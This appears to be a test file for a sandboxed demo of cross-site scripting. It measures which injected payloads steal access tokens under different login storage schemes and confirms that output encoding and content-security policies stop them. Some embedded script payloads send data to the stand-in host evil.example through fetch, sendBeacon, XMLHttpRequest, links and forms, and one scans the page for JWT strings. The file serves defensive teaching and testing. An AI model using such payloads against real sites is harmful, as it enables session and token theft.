/** Payloads in the built page: what each gets from each login, and what the defences stop. Not: attempts to get out (payload-escape.test.ts). */
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { closeBrowser } from './browser';
import {
  arrived,
  expectAlive,
  openAgain,
  openPayloads,
  ordersShown,
  outcome,
  readyMarkup,
  run,
  said,
  type Chosen,
  type OpenedPayloads,
} from './victim';

let opened: OpenedPayloads;
beforeAll(async () => {
  opened = await openPayloads();
});
beforeEach(() => openAgain(opened));
afterEach(() => {
  expect(opened.sent).toEqual([]);
  expect(opened.noted.dialogs).toEqual([]);
});
afterAll(closeBrowser);

/** A second message, sent after the first: when it is there, so is all that came before it. */
const LAST = `<script>
addEventListener('load', () => setTimeout(() => console.log('the page is loaded'), 300));
</script>`;

const runToEnd = async (ready: string, login: Chosen) => {
  await run(opened, { ...login, markup: (await readyMarkup(opened, ready)) + LAST });
  await said(opened, 'the page is loaded');
};

const STORES = [
  ['read-storage', { mode: 'jwt', store: 'local-storage' }, ['access token']],
  ['read-storage', { mode: 'jwt', store: 'memory' }, ['']],
  ['read-cookie', { mode: 'jwt', store: 'script-cookie' }, ['access token']],
  ['read-cookie', { mode: 'session' }, ['']],
  ['hook-fetch', { mode: 'jwt', store: 'memory' }, ['access token']],
  ['hook-fetch', { mode: 'jwt', store: 'local-storage' }, ['access token']],
  ['hook-fetch', { mode: 'session' }, ['']],
  ['act', { mode: 'session' }, ['orders']],
  ['act', { mode: 'hybrid' }, ['']],
  ['refresh', { mode: 'hybrid' }, ['access token']],
  ['form', { mode: 'jwt', store: 'local-storage' }, ['access token']],
] as const;

test.each(STORES)('%s against %o: %o', async (ready, login, expected) => {
  await runToEnd(ready, login);
  await expect.poll(() => arrived(opened)).toEqual(expected);
  const succeeded = expected.some((name: string) => name !== '');
  const credential = expected.some((name: string) => name === 'access token');
  // A credential that arrived is used: only what came back for it is a success.
  await opened.page
    .getByText('The attacker’s machine used the access token: GET /orders 200.')
    .first()
    .waitFor({ state: credential ? 'visible' : 'detached' });
  await expect.poll(() => outcome(opened)).toBe(succeeded ? 'succeeded' : 'nothing');
});

const READY = ['read-storage', 'read-cookie', 'hook-fetch', 'act', 'form'];
const LOGINS: readonly Chosen[] = [
  { mode: 'session' },
  { mode: 'jwt', store: 'local-storage' },
  { mode: 'jwt', store: 'script-cookie' },
];

test.each([{ encoded: true }, { policy: 'nonce' }] as const)(
  'with %o every payload is inert',
  async (defence) => {
    for (const ready of READY) {
      for (const login of LOGINS) {
        await run(opened, { ready, ...login, ...defence });
        // The shop's own script still works under the same policy.
        expect(await ordersShown(opened)).toEqual(['Tea pot', 'Two cups']);
        expect({ ready, login, arrived: await arrived(opened) }).toEqual({ ready, login, arrived: [] });
      }
    }
  },
);

test('encoded, the payload is text that the reader sees', async () => {
  await run(opened, { markup: '<b>"it\'s" &amp; good</b>', encoded: true });
  const page = opened.page.frameLocator('iframe').frameLocator('iframe');
  await page.getByText('<b>"it\'s" &amp; good</b>').waitFor();
  expect(await page.locator('p b').count()).toBe(0);
});

test('a policy on connections stops fetch, beacon and image, and not a form', async () => {
  for (const [ready, login] of [
    ['read-storage', { mode: 'jwt', store: 'local-storage' }],
    ['read-cookie', { mode: 'jwt', store: 'script-cookie' }],
    ['hook-fetch', { mode: 'hybrid' }],
  ] as const) {
    await run(opened, { ready, ...login, policy: 'connect' });
    await said(opened, 'The page’s policy refused https://evil.example/');
    expect(await ordersShown(opened)).toEqual(['Tea pot', 'Two cups']);
    expect(await arrived(opened)).toEqual([]);
  }
  await run(opened, { ready: 'form', mode: 'jwt', store: 'local-storage', policy: 'connect' });
  await opened.page.locator('[data-to=attacker]').waitFor();
  expect(await arrived(opened)).toEqual(['access token']);
});

test('a token in a variable is nowhere that script can look', async () => {
  const look = `<script>
const seen = new Set();
const found = [];
const visit = (value, path) => {
  if (typeof value === 'string' && value.includes('eyJ')) found.push(path);
  if (typeof value === 'function' && Function.prototype.toString.call(value).includes('eyJ')) found.push(path);
  if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value)) return;
  seen.add(value);
  if (path.split('.').length > 5) return;
  for (const key of Reflect.ownKeys(value)) {
    try { visit(value[key], path + '.' + String(key)); } catch {}
  }
};
visit(window, 'window');
if (document.documentElement.outerHTML.includes('eyJ' + 'hbG')) found.push('markup');
console.log('looked at ' + (seen.size > 1000) + ' found ' + found.length);
</script>`;
  await run(opened, { mode: 'jwt', store: 'memory', markup: look });
  await said(opened, 'looked at true found 0');
  expect(await outcome(opened)).toBe('nothing');
});

test('what the payload types itself is no secret that arrived', async () => {
  const markup = `<script>
fetch('https://evil.example/?Tea%20pot').then(() => console.log('it was sent'));
navigator.sendBeacon('https://evil.example/', 'Tea pot');
</script>`;
  await run(opened, { mode: 'session', markup });
  await said(opened, 'it was sent');
  expect(await arrived(opened)).toEqual(['', '']);
  expect(await outcome(opened)).toBe('nothing');
});

test('an endless loop is stopped, and the app goes on', async () => {
  await run(opened, { ready: 'loop', mode: 'session' });
  await opened.page.locator('[data-ended]').waitFor();
  expect(await opened.page.locator('[data-ended]').textContent()).toContain(
    'ran for over a second without a pause',
  );
  expect(await opened.page.locator('iframe').count()).toBe(0);
  await expectAlive(opened);
});

test('script cookies and storage behave as script expects', async () => {
  const markup = `<script>
document.cookie = 'a=1; Path=/';
document.cookie = 'hidden=1; HttpOnly';
document.cookie = '__Host-b=2';
const before = document.cookie;
document.cookie = 'a=; Max-Age=0';
localStorage.x = 1;
localStorage.setItem('__proto__', 'y');
console.log(JSON.stringify([before, document.cookie, localStorage.x, localStorage.length, Object.keys(localStorage), typeof localStorage.getItem('z')]));
</script>`;
  await run(opened, { mode: 'session', markup });
  await said(opened, '["a=1","","1",2,["x","__proto__"],"object"]');
  expect(await outcome(opened)).toBe('nothing');
});

test('XMLHttpRequest, links and forms with GET arrive too', async () => {
  const markup = `<a id="link" href="https://evil.example/link">x</a>
<form id="get" action="https://evil.example/get"><input name="q" value="1"><button id="go">go</button></form>
<script>
const xhr = new XMLHttpRequest();
xhr.open('POST', 'https://evil.example/xhr');
xhr.onload = () => console.log('xhr ' + xhr.status);
xhr.send('body');
document.getElementById('link').click();
document.getElementById('go').click();
</script>`;
  await run(opened, { mode: 'session', markup });
  await said(opened, 'xhr 204');
  const lines = await opened.page.locator('[data-to=attacker] summary').allTextContents();
  expect(lines.map((line) => line.replace(/,.*$/u, '')).toSorted()).toEqual([
    'GET https://evil.example/get?q=1by form',
    'GET https://evil.example/linkby link',
    'POST https://evil.example/xhrby XMLHttpRequest',
  ]);
});
